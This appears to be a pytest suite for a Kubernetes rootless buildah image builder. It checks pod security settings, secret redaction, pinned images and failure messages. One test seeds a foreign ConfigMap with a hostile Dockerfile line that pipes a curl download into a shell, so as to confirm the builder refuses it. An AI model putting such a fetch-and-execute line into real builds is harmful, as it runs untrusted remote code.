"""container_image in the cluster: a rootless buildah Job, on kmock, with its pod really run.

``ClusterImageBuilder`` talks to kmock's emulator through the official client;
``tests/support/cluster_build_kubelet.py`` plays admission (the "restricted" Pod Security checks),
the
Job controller and a kubelet that runs the pod's containers on this host as uid 1000 with no
capability and no privilege escalation: the ``clone`` init container fetches the commit with
the real ``git`` from a ``git daemon`` on 127.0.0.1, the ``build`` container runs the real
``buildah bud`` + ``buildah push`` into the real registry of tests/support/registry_fixtures.py,
from the
offline Node base image pushed there (no Docker Hub). The digest the builder returns is checked
against the registry's own (``skopeo inspect``).
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import dagster as dg
import kubernetes_validate
import pytest
from kubernetes import client

from tests.support.cluster_build_kubelet import BuildKubelet
from tests.support.git_repos import Repo
from tests.support.k8s_emulator import EmulatorHandle
from tests.support.k8s_job_cluster import api_client, restricted_violations
from tests.support.kubernetes_versions import VERSIONS
from tests.support.list_log import ListLog
from tests.support.registry_fixtures import RegistryServer
from twinme_ops.defs.release.assets import container_image, source_checkout
from twinme_ops.release.git import GitRepoResource
from twinme_ops.release.images.cluster import ClusterImageBuilder
from twinme_ops.release.images.cluster_job import (
    BUILDAH_IMAGE,
    DIGEST_FILE,
    GIT_IMAGE,
    digest_from_termination_message,
    git_source,
    validate_pinned_image,
)
from twinme_ops.release.images.local import ImageBuildError

NAMESPACE = "twinme-build"
GIT_TOKEN = "ghp_" + "S3cr3tT0k3n" * 3
TOOLS = ("buildah", "skopeo", "git", "setpriv")


@dataclass(frozen=True)
class GitServer:
    root: Path
    port: int

    def repo(self) -> tuple[Repo, str]:
        """A new repository under the daemon's base path, and its git:// URL."""
        name = f"r{secrets.token_hex(4)}"
        return Repo(self.root / name), f"git://127.0.0.1:{self.port}/{name}/remote.git"


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.fixture(scope="module")
def git_server() -> Iterator[GitServer]:
    """``git daemon`` serving a 0755 directory on 127.0.0.1 (the pod's uid must read it)."""
    root = Path(tempfile.mkdtemp(prefix="twinme-git-"))
    root.chmod(0o755)
    port = _free_port()
    proc = subprocess.Popen(
        ["git", "daemon", "--reuseaddr", "--listen=127.0.0.1", f"--port={port}"]
        + [f"--base-path={root}", "--export-all", str(root)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        for _ in range(100):
            with socket.socket() as sock:
                if sock.connect_ex(("127.0.0.1", port)) == 0:
                    break
            threading.Event().wait(0.05)
        yield GitServer(root, port)
    finally:
        proc.terminate()
        proc.wait(10)
        shutil.rmtree(root, ignore_errors=True)


@pytest.fixture
def kubelet(k8s_emulator: tuple[Path, EmulatorHandle]) -> Iterator[BuildKubelet]:
    missing = [tool for tool in TOOLS if shutil.which(tool) is None]
    if missing:
        pytest.fail(f"missing {', '.join(missing)}: apt-get install buildah skopeo git (.ci/deps)")
    kubeconfig, handle = k8s_emulator
    fake = BuildKubelet(
        kubeconfig,
        handle,
        namespace=NAMESPACE,
        service_accounts=("default", "image-builder"),
        images={BUILDAH_IMAGE, GIT_IMAGE},
    ).start()
    try:
        yield fake
    finally:
        fake.stop()


def builder(kubeconfig: Path, registry: RegistryServer, **overrides: Any) -> ClusterImageBuilder:
    settings: dict[str, Any] = {
        "registry": registry.host_port,
        "repository": f"app-{secrets.token_hex(3)}",
        "namespace": NAMESPACE,
        "kubeconfig": str(kubeconfig),
        "tls_verify": False,  # the test registry is plain HTTP
        "poll_interval_s": 0.1,
        "timeout_s": 60,
    }
    settings.update(overrides)
    return ClusterImageBuilder(**settings)


def create_secret(kubeconfig: Path, name: str, data: dict[str, str], kind: str = "Opaque") -> None:
    client.CoreV1Api(api_client(kubeconfig)).create_namespaced_secret(
        NAMESPACE,
        {"metadata": {"name": name, "namespace": NAMESPACE}, "type": kind, "stringData": data},
    )


def push_secret(kubeconfig: Path, registry: RegistryServer) -> str:
    """A dockerconfigjson Secret ``regcred`` for the registry; returns the password inside."""
    password = secrets.token_hex(12)
    auth = {"auths": {registry.host_port: {"username": "ci", "password": password}}}
    create_secret(
        kubeconfig,
        "regcred",
        {".dockerconfigjson": json.dumps(auth)},
        "kubernetes.io/dockerconfigjson",
    )
    return password


def dockerfile(tmp_path: Path, body: str) -> Path:
    path = tmp_path / "Dockerfile"
    path.write_text("ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\n" + body)
    return path


def registry_digest(ref: str) -> str:
    out = subprocess.run(
        ["skopeo", "inspect", "--tls-verify=false", "--format", "{{.Digest}}", f"docker://{ref}"],
        capture_output=True,
        text=True,
        check=True,
    )
    return out.stdout.strip()


# --- the build ----------------------------------------------------------------------------------


def test_the_commit_is_built_rootless_in_a_locked_down_job_and_pinned_by_the_registry_digest(
    k8s_emulator: tuple[Path, EmulatorHandle],
    kubelet: BuildKubelet,
    image_registry: RegistryServer,
    node_base_image: str,
    git_server: GitServer,
    tmp_path: Path,
) -> None:
    kubeconfig, _ = k8s_emulator
    password = push_secret(kubeconfig, image_registry)
    create_secret(kubeconfig, "github-read", {"GIT_TOKEN": GIT_TOKEN})
    repo, url = git_server.repo()
    sha = repo.commit("release me", {"app.txt": "hello from the commit\n"})
    repo.push()
    log = ListLog()
    build = builder(
        kubeconfig,
        image_registry,
        push_secret="regcred",
        git_secret="github-read",
        service_account="image-builder",
        build_args={"BASE_IMAGE": node_base_image},
    )

    built = build.build_from_git(
        remote=url,
        branch="main",
        commit=sha,
        dockerfile=dockerfile(tmp_path, "COPY app.txt /app/app.txt\nUSER node\n"),
        log=log,
        run_id="r1",
    )

    # the digest the pod handed back is the registry's digest of the tag
    assert built.tag_ref == f"{image_registry.host_port}/{build.repository}:{sha}"
    assert built.digest == registry_digest(built.tag_ref)
    assert built.image_ref == f"{image_registry.host_port}/{build.repository}@{built.digest}"
    run = kubelet.only_run()
    (job,) = kubelet.jobs().values()
    pod = job["spec"]["template"]["spec"]
    # admitted under "restricted" (the fake admission refuses otherwise), valid, locked down
    assert restricted_violations(pod) == [] and not kubelet.refused
    for version in VERSIONS:
        kubernetes_validate.validate(job, version, strict=True)
    assert pod["automountServiceAccountToken"] is False and pod["enableServiceLinks"] is False
    assert pod["hostUsers"] is False and pod["serviceAccountName"] == "image-builder"
    assert [c["image"] for c in pod["initContainers"]] == [GIT_IMAGE]
    (container,) = pod["containers"]
    assert container["image"] == BUILDAH_IMAGE and "@sha256:" in container["image"]
    for spec in [*pod["initContainers"], container]:
        ctx = spec["securityContext"]
        assert ctx["runAsUser"] == 1000 and ctx["runAsNonRoot"] is True
        assert ctx["privileged"] is False and ctx["allowPrivilegeEscalation"] is False
        assert ctx["capabilities"] == {"drop": ["ALL"]}
        assert ctx["seccompProfile"] == {"type": "RuntimeDefault"}
    # no Secret but the push Secret (a volume) and the git Secret (the clone's environment)
    secret_volumes = [v["secret"]["secretName"] for v in pod["volumes"] if "secret" in v]
    assert secret_volumes == ["regcred"]
    assert {k for v in pod["volumes"] for k in v} <= {"name", "emptyDir", "configMap", "secret"}
    assert pod["initContainers"][0]["envFrom"] == [{"secretRef": {"name": "github-read"}}]
    assert "envFrom" not in container
    env = {e["name"]: e["value"] for e in container["env"]}
    assert env["REGISTRY_AUTH_FILE"] == "/twinme/registry/auth.json"
    assert env["BUILDAH_ISOLATION"] == "chroot" and env["STORAGE_DRIVER"] == "vfs"
    assert "_BUILDAH_STARTED_IN_USERNS" not in env
    assert container["terminationMessagePath"] == DIGEST_FILE
    script = container["command"][2]
    assert "bud --isolation chroot --format docker" in script and "--storage-driver vfs" in script
    assert f"push --digestfile {DIGEST_FILE}" in script
    # the containers really ran as uid 1000 without privileges, the Secret's token in env only
    assert kubelet.argv["build"][:2] == ["setpriv", "--reuid=1000"]
    assert "--no-new-privs" in kubelet.argv["clone"]
    assert kubelet.envs["clone"]["GIT_TOKEN"] == GIT_TOKEN
    # twinme_ops's Dockerfile travelled as an immutable, content-addressed ConfigMap
    (configmap,) = kubelet.configmaps().values()
    assert configmap["immutable"] is True and "COPY app.txt" in configmap["data"]["Dockerfile"]
    # the clone's and buildah's output reached the run's log, in order, redacted
    assert log.text.index(f"fetched {sha[:12]}") < log.text.index("STEP 2/3: COPY app.txt")
    assert log.text.index("STEP 2/3") < log.text.index(f"pushed {built.tag_ref} as {built.digest}")
    assert job["metadata"]["labels"]["twinme.ai/commit"] == sha
    assert job["metadata"]["labels"]["dagster/run-id"] == "r1"
    assert run.name in kubelet.jobs()  # kept until its TTL, for kubectl logs
    for secret in (GIT_TOKEN, password):
        assert secret not in log.text and secret not in json.dumps(job)


def test_container_image_asset_builds_in_the_cluster_with_the_repositorys_dockerfile(
    k8s_emulator: tuple[Path, EmulatorHandle],
    kubelet: BuildKubelet,
    image_registry: RegistryServer,
    node_base_image: str,
    git_server: GitServer,
    tmp_path: Path,
) -> None:
    kubeconfig, _ = k8s_emulator
    repo, url = git_server.repo()
    dockerfile_text = "ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nCOPY package.json /app/\n"
    sha = repo.commit("release me", {"package.json": "{}\n", "deploy/Dockerfile": dockerfile_text})
    repo.push()
    resources = {
        "git": GitRepoResource(remote=str(repo.bare), workdir_root=str(tmp_path / "co")),
        # the local bare repository stands for GitHub: the cluster fetches from the daemon
        "image_builder": builder(
            kubeconfig, image_registry, git_url=url, build_args={"BASE_IMAGE": node_base_image}
        ),
    }
    instance = dg.DagsterInstance.ephemeral()
    checkout = dg.materialize(
        [source_checkout],
        resources=resources,
        instance=instance,
        run_config={"ops": {"source_checkout": {"config": {"sha": sha}}}},
    )
    assert checkout.success

    result = dg.materialize(
        [container_image],
        resources=resources,
        instance=instance,
        run_config={"ops": {"container_image": {"config": {"dockerfile": "deploy/Dockerfile"}}}},
    )

    assert result.success
    metadata = result.asset_materializations_for_node("container_image")[0].metadata
    tag_ref = metadata["tag_ref"].value
    assert (
        metadata["image_ref"].value
        == f"{str(tag_ref).rsplit(':', 1)[0]}@{registry_digest(str(tag_ref))}"
    )
    assert metadata["builder"].value == "cluster"
    job = kubelet.only_run().job
    assert (
        "-f deploy/Dockerfile -t " in job["spec"]["template"]["spec"]["containers"][0]["command"][2]
    )
    assert kubelet.configmaps() == {}  # the repository's Dockerfile comes with the clone
    assert job["metadata"]["labels"]["dagster/run-id"] == result.run_id


def test_a_failing_run_step_names_the_step_and_keeps_the_job(
    k8s_emulator: tuple[Path, EmulatorHandle],
    kubelet: BuildKubelet,
    image_registry: RegistryServer,
    node_base_image: str,
    git_server: GitServer,
    tmp_path: Path,
) -> None:
    """Run as root with the same script (the host's buildah predates buildah#6961: see the
    kubelet's docstring); the next test runs the same kind of step as uid 1000."""
    kubeconfig, _ = k8s_emulator
    kubelet.as_root = True
    repo, url = git_server.repo()
    sha = repo.commit("broken", {"app.txt": "x\n"})
    repo.push()
    log = ListLog()
    with pytest.raises(ImageBuildError) as failure:
        builder(
            kubeconfig, image_registry, build_args={"BASE_IMAGE": node_base_image}
        ).build_from_git(
            remote=url,
            branch="main",
            commit=sha,
            dockerfile=dockerfile(tmp_path, "RUN echo compiling && node -e 'process.exit(7)'\n"),
            log=log,
        )
    job = kubelet.only_run().name
    message = str(failure.value)
    assert f"build Job {NAMESPACE}/{job} failed: container build exited" in message
    assert "compiling" in message  # the step's own output, in the last lines
    assert "a Dockerfile step failed" in message
    assert f"kubectl -n {NAMESPACE} logs job/{job} -c build" in message
    assert job in kubelet.jobs()  # kept for kubectl logs, until its TTL


def test_a_run_step_on_a_buildah_without_the_setgroups_fix_says_so(
    k8s_emulator: tuple[Path, EmulatorHandle],
    kubelet: BuildKubelet,
    image_registry: RegistryServer,
    node_base_image: str,
    git_server: GitServer,
    tmp_path: Path,
) -> None:
    kubeconfig, _ = k8s_emulator
    repo, url = git_server.repo()
    sha = repo.commit("needs a RUN", {"app.txt": "x\n"})
    repo.push()
    version = subprocess.run(["buildah", "--version"], capture_output=True, text=True).stdout
    with pytest.raises(ImageBuildError) as failure:
        builder(
            kubeconfig, image_registry, build_args={"BASE_IMAGE": node_base_image}
        ).build_from_git(
            remote=url,
            branch="main",
            commit=sha,
            dockerfile=dockerfile(tmp_path, "RUN echo hello\n"),
            log=ListLog(),
        )
    message = str(failure.value)
    if "error setting supplemental groups list" not in message:
        pytest.skip(f"this host's buildah has the fix ({version.strip()}): {message[:200]}")
    assert "containers/buildah#6961" in message and "TWINME_BUILD_IMAGE" in message


def test_a_commit_the_cluster_cannot_fetch_is_named_with_the_fix(
    k8s_emulator: tuple[Path, EmulatorHandle],
    kubelet: BuildKubelet,
    image_registry: RegistryServer,
    git_server: GitServer,
    tmp_path: Path,
) -> None:
    kubeconfig, _ = k8s_emulator
    repo, url = git_server.repo()
    repo.commit("pushed", {"app.txt": "x\n"})
    repo.push()
    unpushed = repo.commit("never pushed", {"app.txt": "y\n"})
    with pytest.raises(ImageBuildError) as failure:
        builder(kubeconfig, image_registry).build_from_git(
            remote=url,
            branch="main",
            commit=unpushed,
            dockerfile=dockerfile(tmp_path, ""),
            log=ListLog(),
        )
    message = str(failure.value)
    assert "container clone exited 3" in message
    assert f"cannot fetch commit {unpushed}" in message and "not our ref" in message
    assert "TWINME_BUILD_GIT_URL" in message and "TWINME_BUILD_GIT_SECRET" in message
    assert "build" not in kubelet.argv  # the build never started


def test_a_missing_push_secret_fails_fast_naming_it_and_deletes_the_job(
    k8s_emulator: tuple[Path, EmulatorHandle],
    kubelet: BuildKubelet,
    image_registry: RegistryServer,
    tmp_path: Path,
) -> None:
    kubeconfig, _ = k8s_emulator  # no Secret created
    with pytest.raises(ImageBuildError) as failure:
        builder(kubeconfig, image_registry, push_secret="regcred", timeout_s=600).build_from_git(
            remote="https://github.com/twinme/twinme-api.git",
            branch="main",
            commit="3f2a9c1d0e8b7a6f5c4d3e2f1a0b9c8d7e6f5a4b",
            dockerfile=dockerfile(tmp_path, ""),
            log=ListLog(),
        )
    message = str(failure.value)
    assert 'secret "regcred" not found' in message and "TWINME_BUILD_PUSH_SECRET" in message
    assert kubelet.jobs() == {}


def test_a_missing_git_secret_or_an_unpullable_image_fails_fast(
    k8s_emulator: tuple[Path, EmulatorHandle],
    kubelet: BuildKubelet,
    image_registry: RegistryServer,
    tmp_path: Path,
) -> None:
    kubeconfig, _ = k8s_emulator
    args: dict[str, Any] = {
        "remote": "https://github.com/twinme/twinme-api.git",
        "branch": "main",
        "commit": "3f2a9c1d0e8b7a6f5c4d3e2f1a0b9c8d7e6f5a4b",
        "dockerfile": dockerfile(tmp_path, ""),
        "log": ListLog(),
    }
    with pytest.raises(ImageBuildError) as failure:
        builder(kubeconfig, image_registry, git_secret="github-read").build_from_git(**args)
    message = str(failure.value)
    assert "cannot start container clone: CreateContainerConfigError" in message
    assert 'secret "github-read" not found' in message and "TWINME_BUILD_GIT_SECRET" in message
    assert kubelet.jobs() == {}
    unknown = "quay.io/buildah/stable:v1.43.2@sha256:" + "0" * 64
    with pytest.raises(ImageBuildError) as failure:
        builder(kubeconfig, image_registry, git_image=unknown).build_from_git(**args)
    assert "cannot start container clone: ErrImagePull" in str(failure.value)
    assert "TWINME_BUILD_GIT_IMAGE" in str(failure.value)
    assert kubelet.jobs() == {}


def test_a_build_over_time_is_deleted_and_reported_with_where_it_was(
    k8s_emulator: tuple[Path, EmulatorHandle],
    kubelet: BuildKubelet,
    image_registry: RegistryServer,
    git_server: GitServer,
    tmp_path: Path,
) -> None:
    """The base image's registry accepts connections and never answers: the pull hangs."""
    kubeconfig, _ = k8s_emulator
    repo, url = git_server.repo()
    sha = repo.commit("slow", {"app.txt": "x\n"})
    repo.push()
    with socket.socket() as silent:
        silent.bind(("127.0.0.1", 0))
        silent.listen(8)
        slow_base = f"127.0.0.1:{silent.getsockname()[1]}/slow/base:1"
        log = ListLog()
        with pytest.raises(ImageBuildError) as failure:
            builder(
                kubeconfig, image_registry, timeout_s=3, build_args={"BASE_IMAGE": slow_base}
            ).build_from_git(
                remote=url, branch="main", commit=sha, dockerfile=dockerfile(tmp_path, ""), log=log
            )
    message = str(failure.value)
    assert "did not finish within 3 s" in message and "TWINME_BUILD_TIMEOUT_S" in message
    assert f"FROM {slow_base}" in message  # the last lines say where it was
    assert kubelet.jobs() == {}  # deleted, its pod's processes stopped
    assert kubelet.only_run().done.wait(15)
    assert f"FROM {slow_base}" in log.text  # streamed while it ran


def test_a_foreign_configmap_under_the_dockerfile_name_is_refused(
    k8s_emulator: tuple[Path, EmulatorHandle],
    kubelet: BuildKubelet,
    image_registry: RegistryServer,
    tmp_path: Path,
) -> None:
    from twinme_ops.release.images.cluster_job import dockerfile_configmap_name

    kubeconfig, _ = k8s_emulator
    path = dockerfile(tmp_path, "COPY . /app\n")
    name = dockerfile_configmap_name(path.read_bytes())
    client.CoreV1Api(api_client(kubeconfig)).create_namespaced_config_map(
        NAMESPACE,
        {"metadata": {"name": name}, "data": {"Dockerfile": "FROM evil\nRUN curl x|sh\n"}},
    )
    with pytest.raises(ImageBuildError, match=f"ConfigMap {NAMESPACE}/{name} exists with another"):
        builder(kubeconfig, image_registry).build_from_git(
            remote="https://github.com/twinme/twinme-api.git",
            branch="main",
            commit="3f2a9c1d0e8b7a6f5c4d3e2f1a0b9c8d7e6f5a4b",
            dockerfile=path,
            log=ListLog(),
        )
    assert kubelet.jobs() == {}  # nothing built from it


# --- pure parts ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "image",
    ["quay.io/buildah/stable", "quay.io/buildah/stable:latest", "quay.io/buildah/stable:stable"],
)
def test_floating_builder_images_are_refused(image: str) -> None:
    with pytest.raises(ImageBuildError, match="TWINME_BUILD_IMAGE"):
        validate_pinned_image(image, "TWINME_BUILD_IMAGE", BUILDAH_IMAGE)


def test_pinned_images_are_accepted() -> None:
    assert validate_pinned_image(BUILDAH_IMAGE, "V", "") == BUILDAH_IMAGE
    assert validate_pinned_image(GIT_IMAGE, "V", "") == GIT_IMAGE
    assert validate_pinned_image("registry:5000/buildah:v1.43.2", "V", "") is not None


def test_the_git_source_drops_credentials_and_refuses_what_the_pod_cannot_fetch() -> None:
    sha = "3f2a9c1d0e8b7a6f5c4d3e2f1a0b9c8d7e6f5a4b"
    url = git_source(f"https://x-access-token:{GIT_TOKEN}@git.twinme.test:8443/twinme/api.git", sha)
    assert url == "https://git.twinme.test:8443/twinme/api.git"
    for remote in (
        "git@github.com:twinme/api.git",
        "ssh://git@github.com/twinme/api",
        "/srv/a.git",
    ):
        with pytest.raises(ImageBuildError, match="TWINME_BUILD_GIT_URL"):
            git_source(remote, sha)
    with pytest.raises(ImageBuildError, match="full sha"):
        git_source("https://github.com/twinme/api.git", sha[:12])


def test_digest_from_termination_message() -> None:
    digest = "sha256:" + "b" * 64
    assert digest_from_termination_message(digest + "\n") == digest
    assert digest_from_termination_message("") is None
    assert digest_from_termination_message("sha256:abc") is None


def test_latest_is_never_the_destination(tmp_path: Path) -> None:
    with pytest.raises(ImageBuildError, match="refusing to build or push ':latest'"):
        ClusterImageBuilder(registry="r:5000").build_from_git(
            remote="https://github.com/twinme/api.git",
            branch="main",
            commit="3f2a9c1d0e8b7a6f5c4d3e2f1a0b9c8d7e6f5a4b",
            tag="latest",
            dockerfile=tmp_path / "Dockerfile",
            log=ListLog(),
        )


def test_the_environment_selects_the_cluster_builder_and_kaniko_is_a_clear_error(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from twinme_ops.defs.resources import build_resources

    for var, value in {
        "TWINME_IMAGE_BUILDER": "cluster",
        "TWINME_REGISTRY": "registry.twinme.test",
        "TWINME_BUILD_NAMESPACE": "builds",
        "TWINME_BUILD_PUSH_SECRET": "regcred",
        "TWINME_BUILD_SERVICE_ACCOUNT": "image-builder",
        "TWINME_BUILD_GIT_SECRET": "github-read",
        "TWINME_BUILD_TIMEOUT_S": "900",
    }.items():
        monkeypatch.setenv(var, value)
    image_builder = build_resources()["image_builder"]
    assert isinstance(image_builder, ClusterImageBuilder)
    assert (image_builder.namespace, image_builder.push_secret) == ("builds", "regcred")
    assert image_builder.service_account == "image-builder"
    assert image_builder.git_secret == "github-read" and image_builder.timeout_s == 900
    assert image_builder.build_image == BUILDAH_IMAGE

    monkeypatch.setenv("TWINME_IMAGE_BUILDER", "kaniko")
    with pytest.raises(ValueError, match="TWINME_IMAGE_BUILDER=cluster") as failure:
        build_resources()
    assert "TWINME_BUILD_" in str(failure.value) and "archived" in str(failure.value)
    monkeypatch.setenv("TWINME_IMAGE_BUILDER", "cluster")
    monkeypatch.setenv("TWINME_KANIKO_PUSH_SECRET", "regcred")
    with pytest.raises(ValueError, match="TWINME_KANIKO_PUSH_SECRET: .*TWINME_BUILD_PUSH_SECRET"):
        build_resources()
    monkeypatch.delenv("TWINME_KANIKO_PUSH_SECRET")
    monkeypatch.setenv("TWINME_IMAGE_BUILDER", "podman")
    with pytest.raises(ValueError, match="TWINME_IMAGE_BUILDER"):
        build_resources()


# --- a real cluster (optional) ------------------------------------------------------------------

HELLO_REPO = "https://github.com/octocat/Hello-World.git"
HELLO_BRANCH = "master"


@pytest.mark.cluster
@pytest.mark.skipif(
    not os.environ.get("TWINME_TEST_CLUSTER"),
    reason="real-cluster tests: set TWINME_TEST_CLUSTER=1, KUBECONFIG and "
    "TWINME_TEST_BUILD_REGISTRY (a registry the cluster can push to, e.g. ttl.sh)",
)
def test_a_build_on_a_real_cluster(tmp_path: Path) -> None:
    """Builds a tiny image from a public repository in a throwaway "restricted" namespace, then a
    failing one: the digest comes back from the pod, the failure names the Job."""
    registry = os.environ.get("TWINME_TEST_BUILD_REGISTRY", "")
    assert registry, "TWINME_TEST_BUILD_REGISTRY must name a registry the cluster can push to"
    git = GitRepoResource(
        remote=os.environ.get("TWINME_TEST_BUILD_GIT_URL", HELLO_REPO),
        branch=os.environ.get("TWINME_TEST_BUILD_GIT_BRANCH", HELLO_BRANCH),
        workdir_root=str(tmp_path / "checkouts"),
    )
    commit = git.ls_remote_head()
    assert commit, f"{git.remote_display} has no branch {git.branch}"
    kubeconfig = os.environ.get("KUBECONFIG") or str(Path.home() / ".kube" / "config")
    core = client.CoreV1Api(api_client(Path(kubeconfig)))
    namespace = f"twinme-build-test-{secrets.token_hex(3)}"
    level = {f"pod-security.kubernetes.io/{m}": "restricted" for m in ("enforce", "warn")}
    core.create_namespace({"metadata": {"name": namespace, "labels": level}})
    build = ClusterImageBuilder(
        registry=registry,
        repository=f"twinme-build-test-{secrets.token_hex(4)}",
        namespace=namespace,
        kubeconfig=kubeconfig,
        tls_verify=os.environ.get("TWINME_TEST_BUILD_INSECURE") != "1",
        pod_resources={"requests": {"cpu": "100m", "memory": "256Mi"}},
        timeout_s=600,
        poll_interval_s=2,
    )
    good, bad = tmp_path / "Dockerfile.good", tmp_path / "Dockerfile.bad"
    good.write_text("FROM registry.k8s.io/pause:3.10\nCOPY README /README\n")
    bad.write_text("FROM registry.k8s.io/pause:3.10\nRUN false\n")
    log = ListLog()
    try:
        built = build.build_from_git(
            remote=git.remote, branch=git.branch, commit=commit, dockerfile=good, log=log
        )
        assert built.image_ref == f"{registry}/{build.repository}@{built.digest}"
        assert digest_from_termination_message(built.digest) == built.digest
        with pytest.raises(ImageBuildError, match=f"build Job {namespace}/twinme-build-"):
            build.build_from_git(
                remote=git.remote, branch=git.branch, commit=commit, dockerfile=bad, log=log
            )
    finally:
        core.delete_namespace(namespace)
